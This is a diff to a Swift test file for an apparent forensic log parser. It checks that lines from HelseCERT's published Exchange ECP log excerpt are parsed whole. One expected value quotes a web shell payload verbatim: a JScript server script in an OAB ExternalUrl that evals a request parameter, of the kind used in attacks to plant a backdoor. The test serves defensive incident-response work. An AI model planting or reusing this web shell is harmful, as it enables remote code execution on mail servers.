@@ -121,7 +121,8 @@ import Testing
     }
 
     /// HelseCERT's published excerpt, verbatim: the cmdlets quote with `'` and hold commas (`Request[""k""],""unsafe""`),
-    /// so EventData is the rest of each line as written, with no field-count problem.
+    /// so EventData is the rest of each line, with no field-count problem; a value wrapped whole in `'…'` has that
+    /// quoting undone (its `''` and `""` one quote each), so it reads as the ECP log held it.
     @Test func helseCERTsECPExcerptKeepsEachCmdletWhole() throws {
         let lines = [
             "2021-03-03T06:49:51.389Z,S:CMD=Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null;;S:EX=",
@@ -133,10 +134,11 @@ import Testing
         #expect(f.kind == .ecpServer)
         #expect(store.count == 4)
         for (i, line) in lines.enumerated() {
-            let rest = String(line.drop { $0 != "," }.dropFirst())
-            #expect(store.field("EventData", of: i) == rest)
             #expect(store.fields(of: i).count == 2)
+            if i == 1 { continue }              // wrapped whole in '…': below
+            #expect(store.field("EventData", of: i) == String(line.drop { $0 != "," }.dropFirst()))
         }
+        #expect(store.field("EventData", of: 1) == #"S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>'.Identity='982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'"#)
         #expect(store.field("TimeStamp", of: 1) == "2021-03-03T06:49:53.772Z")
         #expect(store.time[1] == Timestamp.parse("2021-03-03T06:49:53.772Z"))
         #expect(f.messages == ["line 1: no #Fields header; read as ECP log excerpt (TimeStamp,EventData)"])
